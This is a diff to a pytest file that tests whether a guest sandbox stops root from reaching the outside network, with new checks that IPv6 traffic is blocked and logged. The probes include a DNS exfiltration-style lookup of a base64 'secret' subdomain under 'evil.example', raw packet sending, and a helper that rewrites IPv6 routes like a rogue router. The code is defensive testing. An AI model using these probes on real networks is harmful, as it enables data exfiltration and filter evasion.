@@ -13,8 +13,9 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from support.home import Home, build_golden, temporary_home
+from support.home import Golden, Home, temporary_home
 
+from callao.events import Event
 from callao.instances import inspect
 from callao.lifecycle.egress import egress_of
 
@@ -39,7 +40,8 @@ def tls(name, address, port):
     with context.wrap_socket(socket.create_connection((address, port), 5), server_hostname=name) as client:
         return client.recv(100).decode()
 def udp(address, port, data):
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
+    family = socket.AF_INET6 if ":" in address else socket.AF_INET
+    with socket.socket(family, socket.SOCK_DGRAM) as client:
         client.settimeout(2)
         client.sendto(data, (address, port))
         return client.recv(4096).hex()
@@ -51,6 +53,14 @@ def raw(source, target, port):
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sender:
         sender.sendto(head + segment, (target, 0))
     return "sent"
+def route_ipv6():  # as if a router had told its address, and answered for it
+    import subprocess
+    device = next(name for _, name in socket.if_nameindex() if name != "lo")
+    for each in (
+        "address replace fec0::99/64 nodad", "neighbour replace fe80::2 lladdr 52:56:00:00:00:02",
+        "route replace default via fe80::2",
+    ):
+        subprocess.run(["ip", "-6", *each.split(), "dev", device], check=True)
 """
 
 
@@ -111,10 +121,11 @@ class Server:
 class Box:
     def __init__(self, home: Home, secure: Server, plain: Server) -> None:
         self.home, self.secure, self.plain = home, secure, plain
+        self.events: list[Event] = []
 
-    def ensure(self, egress: object, **request: Any) -> Any:
+    def ensure(self, egress: object) -> Any:
         extra = {**self.home.direct(), "egress": egress}
-        return self.home.ensure("box", extra=extra, **{"warm": True, "timeout": 600, **request})
+        return self.home.ensure("box", extra=extra, warm=True, timeout=600, events=self.events)
 
     @property
     def rules(self) -> dict[str, object]:
@@ -142,14 +153,18 @@ class Box:
 
 
 @pytest.fixture(scope="module")
-def box(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Box]:
+def box(golden: Golden, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Box]:
     secure, plain = Server(server_context(tmp_path_factory.mktemp("certificate"))), Server()
-    with temporary_home(build_golden()) as home:
+    with temporary_home(golden) as home:
         found = Box(home, secure, plain)
         found.ensure(found.rules)
         yield found
     secure.close()
     plain.close()
+
+
+def test_rules_do_not_keep_it_from_being_a_copy_of_a_warm_machine(box: Box) -> None:
+    assert [each.message for each in box.events if "booting instead" in each.message] == []
 
 
 def test_an_allowed_name_is_reached_and_the_host_reaches_the_guest(box: Box) -> None:
@@ -170,8 +185,6 @@ def test_root_in_the_guest_reaches_nothing_else(box: Box) -> None:
         "udp('1.1.1.1', 53, bytes(12))",
         "udp('192.168.5.2', 53, bytes(12))",
         "socket.getaddrinfo('c2VjcmV0.evil.example', 443) and '!'",
-        "tcp('fec0::2', 22)",
-        "tcp('2606:4700::1111', 443)",
     )  # fmt: skip
     assert all(
         "Error" in each or "timed out" in each or "gaierror" in each or "Timeout" in each for each in answers
@@ -183,6 +196,22 @@ def test_root_in_the_guest_reaches_nothing_else(box: Box) -> None:
     assert ("tls", "192.168.5.2", secure, "evil.example") in refused
     assert ("dns", "", 0, "c2vjcmv0.evil.example") in refused
     assert "1.1.1.1" in (Path(box.home.path) / "box" / "egress.log").read_text()
+
+
+def test_nothing_passes_by_ipv6_and_attempts_are_listed(box: Box) -> None:
+    answers = box.root(
+        "route_ipv6()",
+        "tcp('fec0::2', 22)",
+        "tcp('2606:4700::1111', 443)",
+        "udp('2606:4700::1111', 53, bytes(12))",
+    )  # fmt: skip
+    assert answers[0] is None
+    assert all("Error" in each for each in answers[1:]), answers
+    assert {
+        ("ipv6", "fec0::2", 0, ""),
+        ("tcp", "2606:4700::1111", 443, ""),
+        ("dns", "2606:4700::1111", 53, ""),
+    } <= box.refused()
 
 
 def test_frames_of_its_own_making_get_root_no_further(box: Box) -> None:
